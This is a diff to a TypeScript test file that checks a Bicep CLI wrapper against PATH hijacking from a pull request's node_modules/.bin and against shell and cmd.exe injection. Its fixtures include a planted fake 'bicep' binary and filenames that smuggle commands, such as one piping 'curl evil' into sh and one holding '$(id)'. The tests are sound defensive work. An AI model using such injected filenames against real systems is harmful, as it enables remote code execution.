@@ -1,8 +1,8 @@
 import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import { delimiter, join, relative } from "node:path";
 import { test } from "uvu";
 import * as assert from "uvu/assert";
-import { azHasBicep, compileArguments, findBicepCli } from "../../src/bicep/compiler.js";
+import { azHasBicep, compileArguments, findBicepCli, shellQuoted, shellWord, trustedPath } from "../../src/bicep/compiler.js";
 import { parseDiagnostics } from "../../src/bicep/diagnostics.js";
 import { tempDir } from "../../scripts/temp-dir.js";
 
@@ -22,6 +22,43 @@ test("the compiler: --bicep first, then bicep on PATH, then az bicep; none found
   assert.equal(findBicepCli(undefined, { PATH: both }), { executable: join(both, "bicep"), flavour: "bicep" });
   assert.equal(findBicepCli(undefined, { PATH: azOnly }), { executable: join(azOnly, "az"), flavour: "az" });
   assert.is(findBicepCli(undefined, { PATH: executables() }), undefined);
+});
+
+test("a pull request's bicep is never run: not from a relative PATH directory nor a node_modules/.bin inside the working directory", () => {
+  const repo = tempDir("acs-bicep-repo-");
+  mkdirSync(join(repo, "node_modules", ".bin"), { recursive: true });
+  writeFileSync(join(repo, "node_modules", ".bin", "bicep"), "#!/bin/sh\necho pwned\n");
+  chmodSync(join(repo, "node_modules", ".bin", "bicep"), 0o755);
+  const az = executables("az");
+  const previous = process.cwd();
+  process.chdir(repo); // as npx and npm scripts run: the checkout's node_modules/.bin first on PATH
+  try {
+    for (const bin of [join(repo, "node_modules", ".bin"), "node_modules/.bin", ".", relative(repo, join(repo, "node_modules", ".bin"))]) {
+      const PATH = [bin, az].join(delimiter);
+      assert.equal(findBicepCli(undefined, { PATH }), { executable: join(az, "az"), flavour: "az" }, bin);
+      assert.is(findBicepCli("bicep", { PATH }), undefined, "a bare configured name is looked up the same way");
+      assert.equal(trustedPath(PATH), [az]);
+    }
+    assert.equal(findBicepCli("az", { PATH: az }), { executable: join(az, "az"), flavour: "az" });
+  } finally {
+    process.chdir(previous);
+  }
+});
+
+test("az.cmd through cmd.exe: every argument quoted; a name cmd.exe would still read inside quotes is refused", () => {
+  assert.equal(shellQuoted("C:\\My Repo\\a&b.bicep", "C:\\az\\az.cmd", ["bicep", "build", "--file", "C:\\My Repo\\a&b.bicep"]), [
+    '"C:\\az\\az.cmd"',
+    ['"bicep"', '"build"', '"--file"', '"C:\\My Repo\\a&b.bicep"'],
+  ]);
+  for (const name of ['a".bicep', "a%PATH%.bicep", "a!x!.bicep", "a^.bicep", "a\nb.bicep"]) {
+    assert.throws(() => shellQuoted(name, "az.cmd", ["--file", name]), /holds a character cmd\.exe would interpret/, name);
+  }
+});
+
+test("a file name in a command the user is told to run is one shell word", () => {
+  assert.is(shellWord("infra/main.bicep"), "infra/main.bicep");
+  assert.is(shellWord("x';curl evil|sh;'.bicep"), "'x'\\'';curl evil|sh;'\\''.bicep'");
+  assert.is(shellWord("my file $(id).bicep"), "'my file $(id).bicep'");
 });
 
 test("command lines: the documented --stdout forms with --no-restore, for bicep and az bicep", () => {
